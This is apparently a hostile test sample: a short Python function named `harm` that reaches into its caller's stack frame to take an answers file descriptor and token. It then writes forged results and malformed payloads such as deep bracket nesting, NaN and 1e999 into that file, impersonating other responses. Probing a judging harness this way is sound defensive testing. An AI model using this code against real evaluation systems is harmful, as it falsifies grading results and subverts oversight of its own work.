"""It finds out where answers go and by which token, and answers for others, more than once, and in no JSON."""

import os
import sys


def harm():
    frame = sys._getframe()
    while "answers" not in frame.f_locals:
        frame = frame.f_back
    file, token = frame.f_locals["answers"], frame.f_locals["request"]["token"]
    for answer in ('{"id": "after", "graphs": []}', '{"id": "after"}', "[" * 100_000, "NaN", "1e999", '{"id": NaN}', "7"):
        os.write(file, f"\n{token} {answer}\n".encode())
    return False
